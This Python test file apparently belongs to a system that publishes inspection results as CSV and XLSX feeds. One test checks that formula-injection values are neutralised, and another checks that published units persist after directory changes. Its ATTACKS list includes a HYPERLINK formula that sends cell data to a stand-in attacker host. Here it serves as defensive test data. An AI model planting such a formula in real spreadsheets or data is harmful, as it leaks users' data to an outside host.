"""The results feed against the directory and against spreadsheets (issue 17, items 3 and
14): what was published stays as published, and no cell runs as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import update
from sqlmodel import Session, select

from bot.batches.results import lead_unit
from bot.public.disclosure import object_page
from bot.public.feeds import neutral
from bot.public.site import Site
from storage.db import transaction
from storage.importing import import_file
from storage.models import Batch, InspectionObject, Result, Task
from tests.support.batch_district import INSPECTORS, UNITS, seed_district
from tests.support.public_district import disclose
from tests.support.results_district import SETTINGS


@pytest.fixture
def disclosed(engine, tmp_path):
    seed_district(engine, tmp_path)
    return disclose(engine, tmp_path)


def feeds(engine) -> tuple[list[list[str]], list[list]]:
    with Session(engine) as session:
        site = Site(session, SETTINGS)
        rows = list(csv.reader(io.StringIO(site.get("results.csv").body.decode("utf-8-sig"))))
        sheet = load_workbook(io.BytesIO(site.get("results.xlsx").body)).active
        return rows, [list(row) for row in sheet.iter_rows()]


ATTACKS = ('=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1")


def test_cells_that_would_run_as_formulas_are_neutralised(engine, disclosed):
    """Issue 17 item 14: an object named ``=HYPERLINK(…)`` (and the other starts OWASP lists)
    is shown as text in results.csv and results.xlsx; credit codes and dates are kept."""
    first, second = disclosed.published_tasks
    with transaction(engine) as session:
        obj = session.get_one(Task, first).object_id
        session.execute(update(InspectionObject).where(InspectionObject.id == obj).values(name=ATTACKS[0]))
        session.execute(update(Batch).where(Batch.id == disclosed.drawn).values(name=ATTACKS[1]))
    rows, sheet = feeds(engine)
    for attack in ATTACKS:
        assert all(not cell.startswith(attack) for row in rows for cell in row)
    (row,) = [r for r in rows[1:] if r[0] == obj]
    assert row[1] == "'" + ATTACKS[0] and row[3] == "'" + ATTACKS[1]
    assert all(r[0].isalnum() and len(r[0]) == 18 for r in rows[1:])  # credit codes as they are
    assert all(r[8][:4].isdigit() for r in rows[1:])  # dates as they are
    cells = [c for line in sheet for c in line]
    assert all(c.data_type != "f" for c in cells)  # no formula in the workbook
    assert [[str(c.value) for c in line] for line in sheet] == rows
    assert [neutral(a)[0] for a in ATTACKS] == ["'"] * len(ATTACKS)
    assert neutral("911506020000000001") == "911506020000000001" and neutral("对象1") == "对象1"


def test_the_published_unit_stays_whatever_the_directory_becomes(engine, disclosed, tmp_path):
    """Issue 17 item 3: approve, then move every inspector to the other station and rename
    the stations (re-imports): the feed and the pages still show the unit as published."""
    rows, _ = feeds(engine)
    published = {r[0]: r[9] for r in rows[1:]}
    assert set(published.values()) <= {"东城所", "西城所"} and all(published.values())
    with Session(engine) as session:
        stored = {r.task_id: (r.inspecting_unit, r.inspecting_unit_name, r.deciding_unit)
                  for r in session.exec(select(Result).where(Result.status == "approved"))}
        pages = {t: Site(session, SETTINGS).get(f"objects/{object_page(session.get_one(Task, t).object_id)}.html")
                 .body.decode() for t in disclosed.published_tasks}
    assert all(unit and name and deciding == unit for unit, name, deciding in stored.values())

    from alembic import command

    from storage.schema import alembic_config

    config = alembic_config(engine)  # results published before the upgrade: backfilled the same
    command.downgrade(config, "0014")
    command.upgrade(config, "head")
    with Session(engine) as session:
        assert {r.task_id: (r.inspecting_unit, r.inspecting_unit_name, r.deciding_unit)
                for r in session.exec(select(Result).where(Result.status == "approved"))} == stored

    moved = INSPECTORS.replace(",S-DC,", ",S-TMP,").replace(",S-XC,", ",S-DC,").replace(",S-TMP,", ",S-XC,")
    for kind, text in (("units", UNITS.replace("东城所", "东城新所").replace("西城所", "西城新所")),
                       ("inspectors", moved)):
        (tmp_path / f"{kind}.csv").write_text(text, encoding="utf-8")
        assert import_file(engine, kind, tmp_path / f"{kind}.csv", actor="test").ok
    with transaction(engine) as session:
        assert all(lead_unit(session, t) != stored[t][0] for t in disclosed.published_tasks)  # moved
    rows, sheet = feeds(engine)
    assert {r[0]: r[9] for r in rows[1:]} == published
    assert [[str(c.value) for c in line] for line in sheet] == rows
    with Session(engine) as session:
        site = Site(session, SETTINGS)
        results_page = site.get(f"batches/{disclosed.drawn}/results.html").body.decode()
        assert all(name in results_page for name in published.values()) and "新所" not in results_page
        for task, before in pages.items():
            page = site.get(f"objects/{object_page(session.get_one(Task, task).object_id)}.html").body.decode()
            assert page == before
